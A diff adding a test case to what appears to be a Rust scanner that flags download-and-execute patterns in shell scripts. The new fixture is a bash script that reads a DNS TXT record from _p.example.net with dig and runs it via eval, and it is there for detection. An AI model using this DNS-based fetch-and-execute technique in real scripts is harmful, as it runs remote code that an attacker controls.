@@ -1730,4 +1730,10 @@ fn a_sourced_library_and_a_dns_answer_are_followed() {
     assert!(has(&found, Rule::DownloadExec), "{found:?}");
     let alone = audit_with(&[("scripts/lib/policy.sh", policy.as_bytes())], &[]);
     assert!(!has(&alone, Rule::DownloadExec), "{alone:?}");
+    // A function fed a pipe passes on what it was given.
+    caught(
+        "scripts/refresh.sh",
+        "#!/bin/bash\nlookup() { dig +short TXT \"$1\"; }\nclean() { sed -e 's/\"//g'; }\nrec=$(lookup _p.example.net | clean)\neval \"$rec\"\n",
+        Rule::DownloadExec,
+    );
 }
